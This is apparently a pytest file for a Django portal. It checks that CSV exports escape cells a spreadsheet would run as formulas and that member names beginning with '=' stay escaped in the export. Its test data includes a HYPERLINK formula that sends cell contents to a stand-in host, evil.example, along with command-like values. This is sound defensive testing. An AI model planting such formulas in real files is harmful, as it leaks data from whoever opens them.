"""Every CSV we produce opens in a spreadsheet as text: a cell that would run as a formula is escaped."""

from __future__ import annotations

import csv
import io

import pytest

from portal.spreadsheets import csv_dict_writer, safe_cell


@pytest.mark.parametrize("value", ["=1+2", "+33 6 12", "-2", "@SUM(A1)", "\tx", "\r=cmd", '=HYPERLINK("http://x")'])
def test_a_cell_a_spreadsheet_would_run_gets_a_leading_apostrophe(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Amina Haddad", "12 Olaya Street", "", 42, None, "a=b", "e-mail"])
def test_other_cells_are_written_as_they_are(value):
    assert safe_cell(value) == value


def test_the_writer_escapes_every_cell_and_the_header():
    text = io.StringIO()
    writer = csv_dict_writer(text, fieldnames=["@name", "n"])
    writer.writeheader()
    writer.writerows([{"@name": "+cmd", "n": 3}, {"@name": "=x", "n": "-1"}])
    rows = list(csv.reader(io.StringIO(text.getvalue())))
    assert rows == [["'@name", "n"], ["'+cmd", "3"], ["'=x", "'-1"]]


@pytest.mark.django_db
def test_a_members_name_starting_with_equals_is_escaped_in_the_export_csv_and_kept_in_the_json(
    django_capture_on_commit_callbacks,
):
    from tests.privacy.helpers import member_with_data
    from tests.privacy.test_export_and_erasure import download_export

    member = member_with_data()
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    member.user.full_name = hostile
    member.user.save(update_fields=["full_name"])
    exported = download_export(member, django_capture_on_commit_callbacks)
    cells = [
        cell
        for name in exported["zip"].namelist()
        if name.startswith("csv/")
        for row in csv.reader(io.StringIO(exported["zip"].read(name).decode()))
        for cell in row
    ]
    assert "'" + hostile in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))]
    assert hostile in exported["zip"].read("data.json").decode("utf-8").replace('\\"', '"')
